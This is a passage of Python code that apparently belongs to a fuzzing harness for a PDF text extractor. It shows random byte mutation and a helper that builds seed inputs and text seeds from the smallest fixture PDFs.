        for _ in range(rng.randrange(1, 8)):
            data = mutate_bytes(data, rng.choice(("flip", "byte", "delete")), rng.random(), rng.random(),
                                bytes([rng.randrange(256)]), b"")
    return data


def fuzz_seeds(fixtures: str | Path, count: int = 4) -> tuple[list[bytes], list[str]]:
    """Seed inputs: the ``count`` smallest fixture PDFs, each also with its streams decompressed,
    and their text layers (what another extractor would give) as text seeds."""
    paths = sorted(Path(fixtures).glob("*.pdf"), key=lambda p: (p.stat().st_size, p.name))[:count]
    pdfs = [p.read_bytes() for p in paths]
    pdfs += [expanded(d) for d in pdfs]
    texts = []
    for d in pdfs[:count]:
        doc = _open(d)
        texts.append("\n".join(page.get_text() for page in doc))
    return pdfs, texts
